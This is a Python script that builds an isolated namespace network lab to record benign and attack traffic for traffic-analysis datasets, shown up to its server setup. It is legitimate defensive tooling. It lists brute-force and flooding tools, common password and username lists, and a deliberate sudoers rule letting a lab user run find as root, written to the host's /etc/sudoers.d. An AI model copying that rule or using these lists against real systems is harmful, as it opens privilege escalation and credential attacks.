#!/usr/bin/env python3
"""nta traffic lab: real benign and attack traffic between lab-only network namespaces, captured with tcpdump.

    sudo nice -n 10 python3 lab/run.py --seed 1 --out /work/labruns/seed1 [--minutes 10] [--install]

Safety design (see lab/README.md): every namespace is called ntalab-*; veth pairs are created inside the
switch namespace and one end is moved straight into a host namespace, so nothing is ever attached to the root
namespace; no namespace gets a default route; every target address in every tool command line is checked to be
inside the lab ranges before the command runs; the root namespace's addresses, routes, links and nft ruleset
are snapshotted before and compared after (a difference aborts with exit 3).

Python stdlib only. Writes into --out: capture.pcap, labels.csv, summary.json, lab-meta.json, logs/.
"""

from __future__ import annotations

import argparse
import contextlib
import copy
import csv
import datetime as dt
import ipaddress
import json
import os
import random
import re
import shlex
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import traceback
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

HERE = Path(__file__).resolve().parent
AGENTS = str(HERE / "agents.py")
LAB4 = ipaddress.ip_network("10.77.0.0/16")
LAB6 = ipaddress.ip_network("fd77::/48")
LAB_NETS = (LAB4, LAB6)
PREFIX = "ntalab-"
USER = "ntalab"
SUDOERS = Path("/etc/sudoers.d/ntalab-lab")
PY = sys.executable

PACKAGES = [
    "iproute2",
    "tcpdump",
    "nftables",
    "ethtool",
    "openssl",
    "sudo",
    "nginx",
    "openssh-server",
    "openssh-client",
    "sshpass",
    "vsftpd",
    "dnsmasq-base",
    "dovecot-imapd",
    "dovecot-pop3d",
    "inetutils-telnetd",
    "chrony",
    "samba",
    "smbclient",
    "curl",
    "wget",
    "lftp",
    "ftp",
    "dnsutils",
    "traceroute",
    "iputils-ping",
    "nmap",
    "hping3",
    "hydra",
    "medusa",
    "ncrack",
    "slowhttptest",
    "apache2-utils",
    "netcat-openbsd",
    "ncat",
    "socat",
]
TOOLS = {  # tool name -> binary
    "tcpdump": "tcpdump",
    "nft": "nft",
    "ethtool": "ethtool",
    "openssl": "openssl",
    "sudo": "sudo",
    "nginx": "nginx",
    "sshd": "sshd",
    "ssh": "ssh",
    "scp": "scp",
    "sshpass": "sshpass",
    "vsftpd": "vsftpd",
    "dnsmasq": "dnsmasq",
    "dovecot": "dovecot",
    "telnetd": "telnetd",
    "chronyd": "chronyd",
    "smbd": "smbd",
    "smbclient": "smbclient",
    "curl": "curl",
    "wget": "wget",
    "lftp": "lftp",
    "dig": "dig",
    "traceroute": "traceroute",
    "ping": "ping",
    "nmap": "nmap",
    "hping3": "hping3",
    "hydra": "hydra",
    "medusa": "medusa",
    "ncrack": "ncrack",
    "slowhttptest": "slowhttptest",
    "ab": "ab",
    "nc": "nc",
    "ncat": "ncat",
    "socat": "socat",
    "useradd": "useradd",
    "bash": "bash",
}

COMMON_PASSWORDS = [
    "123456",
    "password",
    "123456789",
    "12345678",
    "12345",
    "qwerty",
    "1234567",
    "111111",
    "123123",
    "abc123",
    "password1",
    "1234",
    "iloveyou",
    "1q2w3e4r",
    "000000",
    "qwerty123",
    "zaq12wsx",
    "dragon",
    "sunshine",
    "princess",
    "letmein",
    "654321",
    "monkey",
    "27653",
    "1qaz2wsx",
    "123321",
    "qwertyuiop",
    "superman",
    "asdfghjkl",
    "trustno1",
    "welcome",
    "admin",
    "admin123",
    "root",
    "toor",
    "changeme",
    "passw0rd",
    "P@ssw0rd",
    "master",
    "hello",
    "freedom",
    "whatever",
    "qazwsx",
    "football",
    "baseball",
    "shadow",
    "michael",
    "jennifer",
    "hunter2",
    "starwars",
    "secret",
    "test",
    "test123",
    "guest",
    "login",
    "welcome1",
    "Password1",
    "Summer2023",
    "Winter2024",
    "Spring2024!",
    "Autumn2023",
    "company123",
    "office2024",
    "server",
    "backup",
    "oracle",
    "ubuntu",
    "debian",
    "raspberry",
    "pi123",
    "default",
    "support",
    "user",
    "user123",
    "temp",
    "temp123",
    "demo",
    "demo123",
    "administrator",
    "manager",
    "access",
    "letmein1",
    "qwe123",
    "asd123",
    "zxc123",
    "1q2w3e",
    "123qwe",
    "q1w2e3r4",
    "pass1234",
    "mustang",
    "batman",
    "charlie",
    "donald",
]
WORDS = [
    "Maple",
    "Harbor",
    "Copper",
    "Falcon",
    "Juniper",
    "Orbit",
    "Velvet",
    "Cobalt",
    "Lantern",
    "Meadow",
    "Granite",
    "Saffron",
    "Tundra",
    "Willow",
    "Quartz",
    "Ember",
]
USERNAMES = [
    "admin",
    "root",
    "test",
    "guest",
    "user",
    "oracle",
    "postgres",
    "ubuntu",
    "pi",
    "support",
    "backup",
    "operator",
    "ftp",
    "www",
    "deploy",
    "git",
    "jenkins",
    "info",
    "sales",
    "office",
]


def now() -> float:
    return time.time()


def iso(t: float) -> str:
    return dt.datetime.fromtimestamp(t, dt.UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def log(msg: str) -> None:
    print(f"[{dt.datetime.now().strftime('%H:%M:%S')}] {msg}", flush=True)


# ------------------------------------------------------------------ address safety
def net_within(
    n: ipaddress.IPv4Network | ipaddress.IPv6Network, m: ipaddress.IPv4Network | ipaddress.IPv6Network
) -> bool:
    """``n`` lies inside ``m``; False across address families (where ``subnet_of`` itself would raise)."""
    if isinstance(n, ipaddress.IPv4Network) and isinstance(m, ipaddress.IPv4Network):
        return n.subnet_of(m)
    if isinstance(n, ipaddress.IPv6Network) and isinstance(m, ipaddress.IPv6Network):
        return n.subnet_of(m)
    return False


def in_lab(a: str) -> bool:
    a = a.strip("[]").split("%")[0]
    try:
        if "/" in a:
            n = ipaddress.ip_network(a, strict=False)
            return any(net_within(n, m) for m in LAB_NETS)
        ip = ipaddress.ip_address(a)
    except ValueError:
        return False
    return any(ip in m for m in LAB_NETS) or ip == ipaddress.ip_address("ff02::1")


def tgt(a: str) -> str:
    """Every address or range handed to a tool goes through here: refuse anything outside the lab."""
    assert in_lab(a), f"refusing non-lab target {a!r}"
    return a


_V4 = re.compile(r"(?<![\w.])(\d{1,3}(?:\.\d{1,3}){3})(?:/\d+)?(?![\w.])")
_V4X = re.compile(r"(?<![\w.])(\d{1,3}\.\d{1,3}\.\d{1,3})\.x(?![\w.])")
_V6 = re.compile(r"(?<![\w:])([0-9a-fA-F]{0,4}(?::[0-9a-fA-F]{0,4}){2,7})(?:/\d+)?(?![\w:])")


def assert_argv_lab(argv: list[str]) -> None:
    """Safety net over a whole command line: every IPv4/IPv6 literal in it must be a lab address."""
    for tok in argv:
        for m in _V4.finditer(tok):
            if not m.group(1).startswith(("127.", "0.0.0.0")):
                # "a.b.c.d/n" is a network when n <= 32, else an address followed by a path (/dev/tcp/ADDR/PORT)
                plen = m.group(0).partition("/")[2]
                whole = m.group(0) if plen and int(plen) <= 32 else m.group(1)
                assert in_lab(whole), f"non-lab IPv4 {whole!r} in {argv!r}"
        for m in _V4X.finditer(tok):
            assert in_lab(m.group(1) + ".0/24"), f"non-lab range {m.group(0)!r} in {argv!r}"
        for m in _V6.finditer(tok):
            s = m.group(1)
            if (
                s.count(":") >= 2
                and s not in ("::", "::1")
                and not s.startswith("::ffff")
                and any(c in s for c in "0123456789abcdefABCDEF")
            ):
                try:
                    ipaddress.ip_address(s)
                except ValueError:
                    continue  # e.g. a clock time like 10:20:30
                assert in_lab(s), f"non-lab IPv6 {s!r} in {argv!r}"


# ------------------------------------------------------------------ process helpers
PROCS: list[tuple[str, subprocess.Popen]] = []
PROCS_LOCK = threading.Lock()
STOP = threading.Event()


def run_root(argv: list[str], check: bool = True, timeout: float = 60) -> subprocess.CompletedProcess:
    """Commands run from the root namespace: only `ip netns add/del`, `ip -n ntalab-*`, file ops, useradd."""
    r = subprocess.run(argv, capture_output=True, text=True, timeout=timeout)
    if check and r.returncode != 0:
        raise RuntimeError(f"{argv!r} failed: {r.stderr.strip()}")
    return r


def ipn(ns: str, *args: str, check: bool = True) -> subprocess.CompletedProcess:
    assert ns.startswith(PREFIX)
    return run_root(["ip", "-n", ns, *args], check=check)


def nsx(
    ns: str,
    argv: list[str],
    timeout: float = 60,
    check: bool = False,
    stdin: str | None = None,
    user: str | None = None,
    quiet: bool = True,
    cwd: str | None = None,
) -> subprocess.CompletedProcess:
    """Run argv inside lab namespace ns, with a hard timeout (the whole process group is killed)."""
    assert ns.startswith(PREFIX)
    assert_argv_lab(argv)
    full = ["ip", "netns", "exec", ns]
    if user:
        full += ["runuser", "-u", user, "--"]
    full += ["timeout", "-k", "3", str(int(timeout)), *argv]
    p = subprocess.Popen(
        full,
        stdin=subprocess.PIPE if stdin is not None else subprocess.DEVNULL,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        errors="replace",
        start_new_session=True,
        cwd=cwd,
    )
    try:
        out, err = p.communicate(stdin, timeout=timeout + 10)
    except subprocess.TimeoutExpired:
        os.killpg(p.pid, signal.SIGKILL)
        out, err = p.communicate()
    r = subprocess.CompletedProcess(full, p.returncode, out, err)
    if check and r.returncode != 0:
        raise RuntimeError(f"{ns}: {argv!r} rc={r.returncode}: {err.strip()[-500:]}")
    if not quiet:
        log(f"{ns}: {' '.join(argv)[:160]} -> rc={r.returncode}")
    return r


def nspopen(ns: str, argv: list[str], logfile: Path, user: str | None = None, name: str = "") -> subprocess.Popen:
    assert ns.startswith(PREFIX)
    assert_argv_lab(argv)
    full = ["ip", "netns", "exec", ns] + (["runuser", "-u", user, "--"] if user else []) + argv
    with open(logfile, "ab") as f:
        p = subprocess.Popen(full, stdin=subprocess.DEVNULL, stdout=f, stderr=subprocess.STDOUT, start_new_session=True)
    with PROCS_LOCK:
        PROCS.append((name or argv[0], p))
    return p


def kill_proc(p: subprocess.Popen, sig: int = signal.SIGTERM, wait: float = 5) -> None:
    if p.poll() is not None:
        return
    try:
        os.killpg(p.pid, sig)
    except ProcessLookupError:
        return
    try:
        p.wait(wait)
    except subprocess.TimeoutExpired:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(p.pid, signal.SIGKILL)
        p.wait(5)


def interactive(
    ns: str,
    argv: list[str],
    lines: list[str],
    rng: random.Random,
    timeout: float = 60,
    delay: tuple[float, float] = (0.5, 2.0),
) -> int:
    """Feed lines to an interactive program (ssh -tt) as a person typing would, with pauses."""
    assert ns.startswith(PREFIX)
    assert_argv_lab(argv)
    p = subprocess.Popen(
        ["ip", "netns", "exec", ns, "timeout", "-k", "3", str(int(timeout)), *argv],
        stdin=subprocess.PIPE,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    t_end = now() + timeout
    try:
        time.sleep(rng.uniform(1.5, 2.5))
        for ln in lines:
            if now() > t_end or p.poll() is not None:
                break
            assert p.stdin is not None
            p.stdin.write(ln.encode() + b"\n")
            p.stdin.flush()
            time.sleep(rng.uniform(*delay))
        if p.stdin:
            p.stdin.close()
        p.wait(max(1.0, t_end - now()))
    except (BrokenPipeError, subprocess.TimeoutExpired, OSError):
        pass
    kill_proc(p, signal.SIGKILL, 2)
    return p.returncode if p.returncode is not None else -1


# ------------------------------------------------------------------ root-namespace snapshot (safety check)
def root_snapshot() -> dict:
    def j(argv: list[str]) -> object:
        r = subprocess.run(argv, capture_output=True, text=True)
        if r.returncode != 0:
            return f"unavailable: {r.stderr.strip()[:200]}"
        try:
            data = json.loads(r.stdout or "null")
        except json.JSONDecodeError:
            return r.stdout
        return strip_volatile(data)

    snap = {
        "addr": j(["ip", "-j", "addr"]),
        "route4": j(["ip", "-j", "-4", "route", "show", "table", "all"]),
        "route6": j(["ip", "-j", "-6", "route", "show", "table", "all"]),
        "link": j(["ip", "-j", "link"]),
        "rule": j(["ip", "-j", "rule"]),
    }
    snap["nft"] = j(["nft", "-j", "list", "ruleset"]) if shutil.which("nft") else "nft not installed"
    snap["netns_lab"] = sorted(n for n in list_netns() if n.startswith(PREFIX))
    return snap


def strip_volatile(x: object) -> object:
    if isinstance(x, dict):
        return {
            k: strip_volatile(v)
            for k, v in x.items()
            if k not in ("valid_life_time", "preferred_life_time", "expires", "stats", "stats64", "handle")
        }
    if isinstance(x, list):
        return [strip_volatile(v) for v in x]
    return x


def list_netns() -> list[str]:
    r = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True)
    return [ln.split()[0] for ln in r.stdout.splitlines() if ln.strip()]


# ------------------------------------------------------------------ plan
@dataclass
class Host:
    name: str
    seg: str  # main | rem
    v4: list[str] = field(default_factory=list)
    v6: list[str] = field(default_factory=list)
    role: str = "server"

    @property
    def ns(self) -> str:
        return PREFIX + self.name


class Plan:
    def __init__(self, seed: int, minutes: float):
        self.seed = seed
        rng = self.rng = random.Random(seed)
        k = rng.randrange(0, 60)
        self.main4 = ipaddress.IPv4Network(f"10.77.{4 * k}.0/22")
        self.rem4 = ipaddress.IPv4Network(f"10.77.{240 + rng.randrange(16)}.0/24")
        m6 = rng.randrange(1, 0xFFFF)
        r6 = (m6 + rng.randrange(1, 0x7FFF)) % 0xFFFF or 1
        self.main6 = ipaddress.ip_network(f"fd77:0:0:{m6:x}::/64")
        self.rem6 = ipaddress.ip_network(f"fd77:0:0:{r6:x}::/64")
        blocks26 = list(self.main4.subnets(new_prefix=26))
        self.spoof4 = blocks26[rng.randrange(1, len(blocks26) - 1)]
        self._used: set[ipaddress.IPv4Address] = set()
        self.domain = rng.choice(
            [
                "corp.internal",
                "acme.lan",
                "office.internal",
                "hq.lan",
                "intra.internal",
                "example.lan",
                "branch.internal",
                "ops.lan",
            ]
        )
        self.password = rng.choice(WORDS) + rng.choice(WORDS).lower() + str(rng.randrange(10, 99)) + rng.choice("!#.@")
        self.web_user, self.web_pw = "admin", rng.choice(WORDS).lower() + str(rng.randrange(100, 999))
        self.form_user, self.form_pw = (
            rng.choice(["admin", "manager", "webmaster"]),
            rng.choice(WORDS) + "#" + str(rng.randrange(1000, 9999)),
        )
        self.mail_pw = self.password
        self.minutes = minutes
        self.hosts: dict[str, Host] = {}
        rtr_main4 = self.main4[1] if rng.random() < 0.6 else self.main4[-2]
        rtr_rem4 = self.rem4[1] if rng.random() < 0.6 else self.rem4[-2]
        self._used |= {rtr_main4, rtr_rem4}
        self.rtr = Host(
            "rtr", "both", [str(rtr_main4), str(rtr_rem4)], [str(self.main6[1]), str(self.rem6[1])], "router"
        )
        self.add("web", "main", 1 + rng.randrange(12, 33), 3)
        self.add("srv", "main", 2, 1)
        self.add("dns", "main", 1, 1)
        self.add("mail", "main", 1, 1)
        self.add("vic", "main", 1, 1, "victim")
        n_main = rng.randrange(2, 5)
        for i in range(n_main):
            self.add(f"cl{i + 1}", "main", 1, 1, "client")
        self.add(f"cl{n_main + 1}", "rem", 1, 1, "client")
        self.add("atk1", "main", 1, 1, "attacker")
        self.add("atk2", "rem", 1, 1, "attacker")
        # per-run parameters drawn from the seed
        self.syncookies = rng.choice([0, 1, 1, 2])
        self.nginx_backlog = rng.choice([16, 64, 128, 511])
        self.syn_backlog = rng.choice([64, 128, 256, 1024])
        self.filtered_ports = sorted(rng.sample([3306, 5432, 8443, 3389, 5900, 6379, 9200, 1433, 27017], 3))
        self.pasv_min = rng.randrange(30000, 60000)
        self.attack_port = rng.choice([4444, 5555, 1337, 8081, 9001, 31337, 443 + 8000])
        self.tools_port = rng.choice([8000, 8080, 8888, 80])
        self.gap = (rng.uniform(2.5, 4), rng.uniform(8, 16))

    def alloc4(self, seg: str) -> str:
        net = self.main4 if seg == "main" else self.rem4
        while True:
            a = net[self.rng.randrange(2, net.num_addresses - 2)]
            if a not in self._used and a not in self.spoof4:
                self._used.add(a)
                return str(a)

    def alloc6(self, seg: str) -> str:
        net = self.main6 if seg == "main" else self.rem6
        return str(net[self.rng.getrandbits(48) + 0x100])

    def add(self, name: str, seg: str, n4: int, n6: int, role: str = "server") -> None:
        self.hosts[name] = Host(
            name, seg, [self.alloc4(seg) for _ in range(n4)], [self.alloc6(seg) for _ in range(n6)], role
        )

    def all_hosts(self) -> list[Host]:
        return [self.rtr, *self.hosts.values()]

    def h(self, name: str) -> Host:
        return self.hosts[name]

    @property
    def clients(self) -> list[Host]:
        return [h for h in self.hosts.values() if h.role == "client"]

    @property
    def attackers(self) -> list[Host]:
        return [h for h in self.hosts.values() if h.role == "attacker"]

    def prefixlen(self, seg: str) -> tuple[int, int]:
        return (self.main4.prefixlen, 64) if seg == "main" else (self.rem4.prefixlen, 64)


# ------------------------------------------------------------------ the lab
class Lab:
    def __init__(self, plan: Plan, out: Path, workdir: Path):
        self.p = plan
        self.out = out
        self.w = workdir
        self.logs = out / "logs"
        self.available: dict[str, bool] = {}
        self.services: dict[str, bool] = {}
        self.skipped: list[dict] = []
        self.windows: list[dict] = []
        self.tcpdump: subprocess.Popen | None = None
        self.benign_threads: list[threading.Thread] = []
        self.benign_stats: dict[str, int] = {}
        self.benign_lock = threading.Lock()
        self.long_lived = False
        self.modern_udp = False
        self.start_bursts = False
        self.namespaces: list[str] = []

    # ---------------- topology
    def build(self) -> None:
        p = self.p
        sw = PREFIX + "sw"
        for ns in [sw] + [h.ns for h in p.all_hosts()]:
            run_root(["ip", "netns", "add", ns])
            self.namespaces.append(ns)
            ipn(ns, "link", "set", "lo", "up")
        for k in ("all", "default"):
            nsx(sw, ["sysctl", "-qw", f"net.ipv6.conf.{k}.disable_ipv6=1"], check=True)
        for br in ("br0", "br1"):
            ipn(sw, "link", "add", br, "type", "bridge", "stp_state", "0", "forward_delay", "0", "mcast_snooping", "0")
            ipn(sw, "link", "set", br, "up")
        for h in p.all_hosts():
            legs = (
                [("eth0", "br0", "p-rtr0"), ("eth1", "br1", "p-rtr1")]
                if h.role == "router"
                else [("eth0", "br0" if h.seg == "main" else "br1", f"p-{h.name}")]
            )
            d = Path("/etc/netns") / h.ns
            d.mkdir(parents=True, exist_ok=True)
            (d / "hosts").write_text(
                f"127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost\n127.0.1.1\t{socket.gethostname()} {h.name}\n"
            )
            dns = p.h("dns")
            if h.role == "attacker":
                (d / "resolv.conf").write_text("nameserver 127.0.0.1\n")  # attackers make no DNS queries on the wire
            else:
                (d / "resolv.conf").write_text(
                    f"search {p.domain}\nnameserver {dns.v4[0]}\nnameserver {dns.v6[0]}\noptions timeout:2 attempts:2\n"
                )
            for k in ("all", "default"):
                nsx(h.ns, ["sysctl", "-qw", f"net.ipv6.conf.{k}.accept_ra=0"], check=True)
            nsx(h.ns, ["sysctl", "-qw", "net.ipv4.icmp_echo_ignore_broadcasts=0"], check=True)
            nsx(h.ns, ["sysctl", "-qw", "net.ipv4.ping_group_range=0 2147483647"])
            for dev, br, port in legs:
                ipn(sw, "link", "add", port, "type", "veth", "peer", "name", dev, "netns", h.ns)
                ipn(sw, "link", "set", port, "master", br, "up")
                nsx(sw, ["ethtool", "-K", port, "tx", "off", "tso", "off", "gso", "off", "gro", "off"])
                nsx(h.ns, ["ethtool", "-K", dev, "tx", "off", "tso", "off", "gso", "off", "gro", "off"])
                nsx(h.ns, ["sysctl", "-qw", f"net.ipv6.conf.{dev}.accept_ra=0"])
                ipn(h.ns, "link", "set", dev, "up")
            if h.role == "router":
                ipn(h.ns, "addr", "add", f"{h.v4[0]}/{p.main4.prefixlen}", "dev", "eth0")
                ipn(h.ns, "addr", "add", f"{h.v4[1]}/{p.rem4.prefixlen}", "dev", "eth1")
                ipn(h.ns, "-6", "addr", "add", f"{h.v6[0]}/64", "dev", "eth0", "nodad")
                ipn(h.ns, "-6", "addr", "add", f"{h.v6[1]}/64", "dev", "eth1", "nodad")
                nsx(h.ns, ["sysctl", "-qw", "net.ipv4.ip_forward=1"], check=True)
                nsx(h.ns, ["sysctl", "-qw", "net.ipv6.conf.all.forwarding=1"], check=True)
                continue
            pl4 = p.main4.prefixlen if h.seg == "main" else p.rem4.prefixlen
            for a in h.v4:
                ipn(h.ns, "addr", "add", f"{tgt(a)}/{pl4}", "dev", "eth0")
            for a in h.v6:
                ipn(h.ns, "-6", "addr", "add", f"{tgt(a)}/64", "dev", "eth0", "nodad")
            if h.seg == "main":
                ipn(h.ns, "route", "add", str(p.rem4), "via", p.rtr.v4[0])
                ipn(h.ns, "-6", "route", "add", str(p.rem6), "via", p.rtr.v6[0])
            else:
                ipn(h.ns, "route", "add", str(p.main4), "via", p.rtr.v4[1])
                ipn(h.ns, "-6", "route", "add", str(p.main6), "via", p.rtr.v6[1])
        self.pin_attacker_neighbours()
        time.sleep(1)

    def pin_attacker_neighbours(self) -> None:
        """Permanent IPv6 neighbour entries between each attacker and its segment, both ways.

        Neighbour discovery would otherwise send NUD probes to and from an attacker's address seconds after an
        attack ended, outside its label window; with these entries an attacker's address is on the wire only
        during its attacks."""
        p = self.p
        mac: dict[tuple[str, str], str] = {}
        for h in p.all_hosts():
            for d in ["eth0", "eth1"] if h.role == "router" else ["eth0"]:
                r = run_root(["ip", "-n", h.ns, "-j", "link", "show", d])
                mac[(h.name, d)] = json.loads(r.stdout)[0]["address"]
        members = {
            seg: [(h.name, "eth0", h.v6) for h in p.hosts.values() if h.seg == seg]
            + [("rtr", "eth0" if seg == "main" else "eth1", [p.rtr.v6[0 if seg == "main" else 1]])]
            for seg in ("main", "rem")
        }
        for mem in members.values():
            for an, ad, a6 in mem:
                if an not in p.hosts or p.hosts[an].role != "attacker":
                    continue
                for hn, hd, h6 in mem:
                    if hn == an:
                        continue
                    for addr in a6:
                        ipn(
                            PREFIX + hn,
                            "-6",
                            "neigh",
                            "replace",
                            addr,
                            "lladdr",
                            mac[(an, ad)],
                            "nud",
                            "permanent",
                            "dev",
                            hd,
                        )
                    for addr in h6:
                        ipn(
                            PREFIX + an,
                            "-6",
                            "neigh",
                            "replace",
                            addr,
                            "lladdr",
                            mac[(hn, hd)],
                            "nud",
                            "permanent",
                            "dev",
                            ad,
                        )

    def check_lab_routes(self) -> list[str]:
        bad = []
        allowed = [LAB4, LAB6, ipaddress.ip_network("fe80::/64"), ipaddress.ip_network("ff00::/8")]
        for ns in self.namespaces:
            for fam in ("-4", "-6"):
                r = run_root(["ip", "-n", ns, "-j", fam, "route", "show", "table", "main"], check=False)
                for rt in json.loads(r.stdout or "[]"):
                    dst = rt.get("dst", "")
                    if dst == "default":
                        bad.append(f"{ns}: default route {rt}")
                        continue
                    try:
                        n = ipaddress.ip_network(
                            dst if "/" in dst else dst + ("/32" if fam == "-4" else "/128"), strict=False
                        )
                    except ValueError:
                        bad.append(f"{ns}: unparsable route {rt}")
                        continue
                    if not any(net_within(n, m) for m in allowed):
                        bad.append(f"{ns}: non-lab route {dst}")
        return bad

    # ---------------- tools
    def inventory(self) -> None:
        for t, b in TOOLS.items():
            self.available[t] = bool(shutil.which(b) or Path("/usr/sbin", b).exists())

    def has(self, *tools: str) -> bool:
        return all(self.available.get(t, False) for t in tools)

    # ---------------- servers
    def setup_user(self) -> None:
        home = self.w / "home" / USER
        subprocess.run(["userdel", USER], capture_output=True)
        run_root(["useradd", "-m", "-d", str(home), "-s", "/bin/bash", "-c", "nta lab user", USER])
        subprocess.run(["chpasswd"], input=f"{USER}:{self.p.password}\n", text=True, check=True)
        rng = random.Random(self.p.seed * 7 + 1)
        (home / "files").mkdir(exist_ok=True)
        for i in range(4):
            (home / "files" / f"report-{2020 + i}.pdf").write_bytes(rng.randbytes(rng.randrange(20_000, 500_000)))
        (home / "notes.txt").write_text("todo: rotate backups\nmeeting 10:30\n" * 20)
        (home / "upload").mkdir(exist_ok=True)
        subprocess.run(["chown", "-R", f"{USER}:{USER}", str(home)], check=True)
        # a classic misconfiguration for the U2R scenarios: find may be run as root (GTFOBins)
        SUDOERS.write_text(f"{USER} ALL=(root) NOPASSWD: /usr/bin/find\n")
        SUDOERS.chmod(0o440)

    def start_servers(self) -> None:
        p, w = self.p, self.w
        rng = random.Random(p.seed * 13 + 5)
        # -------- web (nginx, TLS 1.2/1.3, HTTP/2) + app
        if self.has("nginx", "openssl"):
            www = w / "www"
            for d in ("assets", "img", "downloads", "data", "private", "secure", "docs"):
                (www / d).mkdir(parents=True, exist_ok=True)
            imgs = [f"img/photo{i}.jpg" for i in range(rng.randrange(6, 16))]
            css = [f"assets/site{i}.css" for i in range(3)] + [f"assets/app{i}.js" for i in range(4)]
            for f in imgs:
                (www / f).write_bytes(rng.randbytes(int(rng.lognormvariate(9.5, 1.0)) + 500))
            for f in css:
                (www / f).write_text(
                    f"/* lab */ .c{rng.randrange(999)}{{margin:{rng.randrange(99)}px}}\n" * rng.randrange(100, 1200)
                )
            for i in range(3):
                (www / "downloads" / f"pkg{i}.bin").write_bytes(os.urandom(rng.randrange(200_000, 1_600_000)))
            for i in range(8):
                (www / "data" / f"feed{i}.json").write_text(
                    json.dumps([{"id": j, "v": rng.random()} for j in range(rng.randrange(10, 800))])
                )
            page = (
                "<html><head><title>Intranet</title>"
                + "".join(f"<link rel=stylesheet href='/{c}'>" for c in css)
                + "</head><body>"
                + "".join(f"<img src='/{i}'>" for i in imgs)
                + "<p>"
                + "intranet news " * 100
                + "</p></body></html>"
            )
            (www / "index.html").write_text(page)
            (www / "docs" / "index.html").write_text("<html><body>" + "handbook " * 3000 + "</body></html>")
            (www / "private" / "index.html").write_text("<html><body>private area</body></html>")
            (www / "secure" / "index.html").write_text("<html><body>secure</body></html>")
            (www / "robots.txt").write_text("User-agent: *\nDisallow: /private/\n")
            (www / "favicon.ico").write_bytes(rng.randbytes(1150))
            for d in ("body", "proxy", "fastcgi", "uwsgi", "scgi"):
                (w / "nginx-tmp" / d).mkdir(parents=True, exist_ok=True)
            shutil.chown(w / "nginx-tmp", "www-data")
            for sub in (w / "nginx-tmp").iterdir():
                shutil.chown(sub, "www-data")
            key_alg = rng.choice(["rsa:2048", "ec"])
            cmd = [
                "openssl",
                "req",
                "-x509",
                "-nodes",
                "-days",
                "30",
                "-subj",
                f"/CN=www.{p.domain}/O=Lab",
                "-addext",
                f"subjectAltName=DNS:{p.domain},DNS:*.{p.domain},DNS:*.cdn.{p.domain}",
                "-keyout",
                str(w / "key.pem"),
                "-out",
                str(w / "cert.pem"),
            ]
            cmd[2:2] = (
                ["-newkey", "rsa:2048"]
                if key_alg == "rsa:2048"
                else ["-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1"]
            )
            run_root(cmd)
            hp = subprocess.run(["openssl", "passwd", "-apr1", p.web_pw], capture_output=True, text=True, check=True)
            (w / "htpasswd").write_text(f"{p.web_user}:{hp.stdout.strip()}\n")
            os.chmod(w / "key.pem", 0o644)
            bl = p.nginx_backlog
            locs = (
                f"root {www};\n index index.html;\n"
                " location = /old { return 301 /index.html; }\n"
                " location = /moved { return 302 /docs/; }\n"
                ' location /private/ { auth_basic "Restricted"; auth_basic_user_file ' + str(w / "htpasswd") + "; }\n"
                " location /app/ { proxy_pass http://127.0.0.1:8080; }\n"
                " location /api/ { proxy_pass http://127.0.0.1:8080; client_max_body_size 20m; }\n"
            )
            conf = f"""user www-data;
worker_processes 2;
pid {w}/nginx.pid;
error_log {w}/nginx-error.log warn;
daemon off;
events {{ worker_connections 768; }}
http {{
 include /etc/nginx/mime.types;
 default_type application/octet-stream;
 access_log {w}/nginx-access.log;
 client_body_temp_path {w}/nginx-tmp/body; proxy_temp_path {w}/nginx-tmp/proxy;
 fastcgi_temp_path {w}/nginx-tmp/fastcgi; uwsgi_temp_path {w}/nginx-tmp/uwsgi; scgi_temp_path {w}/nginx-tmp/scgi;
 sendfile on; keepalive_timeout {rng.choice([15, 30, 65])}; keepalive_requests 500;
 gzip {rng.choice(["on", "off"])};
 server {{
  listen 80 backlog={bl}; listen [::]:80 backlog={bl};
  server_name _;
  location /secure/ {{ return 301 https://$host$request_uri; }}
  {locs}
 }}
 server {{
  listen 443 ssl http2 backlog={bl}; listen [::]:443 ssl http2 backlog={bl};
  server_name _;
  ssl_certificate {w}/cert.pem; ssl_certificate_key {w}/key.pem;
  ssl_protocols TLSv1.2 TLSv1.3; ssl_session_cache shared:SSL:2m;
  {locs}
 }}
}}
"""
            (w / "nginx.conf").write_text(conf)
            web = p.h("web")
            nspopen(web.ns, ["nginx", "-c", str(w / "nginx.conf"), "-p", str(w)], self.logs / "nginx.log", name="nginx")
            nspopen(
                web.ns,
                [PY, AGENTS, "webapp", "--user", p.form_user, "--password", p.form_pw],
                self.logs / "webapp.log",
                name="webapp",
            )
            if self.modern_udp:  # QUIC-shaped UDP/443 on every web address (CDN ones too), STUN, RTP/RTCP media
                udpd = [PY, AGENTS, "udpd", "--addrs", ",".join(web.v4), "--seed", str(p.seed)]
                nspopen(web.ns, udpd, self.logs / "udpd.log", name="udpd")
        # -------- ssh on srv and vic
        if self.has("sshd"):
            Path("/run/sshd").mkdir(mode=0o755, exist_ok=True)
            for hn in ("srv", "vic"):
                kd = w / f"ssh-{hn}"
                kd.mkdir(exist_ok=True)
                for t in ("ed25519", "rsa", "ecdsa"):
                    k = kd / f"ssh_host_{t}_key"
                    if not k.exists():
                        run_root(["ssh-keygen", "-q", "-t", t, "-N", "", "-f", str(k)])
                (kd / "sshd_config").write_text(f"""Port 22
ListenAddress 0.0.0.0
ListenAddress ::
HostKey {kd}/ssh_host_ed25519_key
HostKey {kd}/ssh_host_rsa_key
HostKey {kd}/ssh_host_ecdsa_key
PidFile {kd}/sshd.pid
UsePAM no
PasswordAuthentication yes
KbdInteractiveAuthentication no
PermitRootLogin no
AllowUsers {USER}
UseDNS no
MaxAuthTries 6
MaxStartups 100:30:200
LoginGraceTime 30
PrintMotd no
X11Forwarding no
Subsystem sftp internal-sftp
""")
                nspopen(
                    p.h(hn).ns,
                    ["/usr/sbin/sshd", "-D", "-e", "-f", str(kd / "sshd_config")],
                    self.logs / f"sshd-{hn}.log",
                    name=f"sshd-{hn}",
                )
        srv = p.h("srv")
        # -------- ftp
        if self.has("vsftpd"):
            Path("/var/run/vsftpd/empty").mkdir(parents=True, exist_ok=True)
            anon = w / "ftp-anon"
